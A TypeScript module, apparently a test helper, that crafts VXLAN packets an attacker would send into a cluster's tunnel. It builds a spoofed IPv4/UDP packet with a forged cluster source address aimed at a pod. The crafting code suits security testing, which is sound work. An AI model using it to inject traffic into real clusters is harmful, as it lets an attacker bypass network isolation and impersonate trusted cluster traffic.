/** What is inside the tunnel: a UDP packet of the cluster's to the pod of the samples. */
export interface InnerPacket {
  readonly vxlanId: number;
  readonly port: number;
  readonly payload: Buffer;
}

const podHardwareAddress = "0a580a800002";
const clusterHardwareAddress = "0a580a800001";
const podAddress = Buffer.from([10, 128, 0, 2]);
const clusterAddress = Buffer.from([10, 128, 0, 1]);

/**
 * What an attacker puts into a UDP packet for the tunnel: the header of RFC 7348 (flag I, 24 bits VNI), an Ethernet frame, IPv4
 * without options, UDP without checksum.
 */
export function vxlanPacket({ vxlanId, port, payload }: InnerPacket): Buffer {
  const header = Buffer.alloc(8);
  header.writeUInt8(0x08, 0);
  header.writeUIntBE(vxlanId, 4, 3);
  const ethernet = Buffer.from(`${podHardwareAddress}${clusterHardwareAddress}0800`, "hex");
  const udp = Buffer.alloc(8);
  udp.writeUInt16BE(port, 0);
  udp.writeUInt16BE(port, 2);
  udp.writeUInt16BE(8 + payload.length, 4);
  return Buffer.concat([header, ethernet, ipv4Header(8 + payload.length), udp, payload]);
}

function ipv4Header(payloadLength: number): Buffer {
  const header = Buffer.alloc(20);
  header.writeUInt8(0x45, 0);
  header.writeUInt16BE(20 + payloadLength, 2);
  header.writeUInt8(64, 8);
  header.writeUInt8(17, 9);
  clusterAddress.copy(header, 12);
  podAddress.copy(header, 16);
  header.writeUInt16BE(checksum(header), 10);
  return header;
}

/** The ones' complement of the ones' complement sum of 16-bit words (RFC 791). */
function checksum(header: Buffer): number {
  let sum = 0;
  for (let at = 0; at < header.length; at += 2) sum += header.readUInt16BE(at);
  while (sum > 0xffff) sum = (sum & 0xffff) + (sum >> 16);
  return ~sum & 0xffff;
}
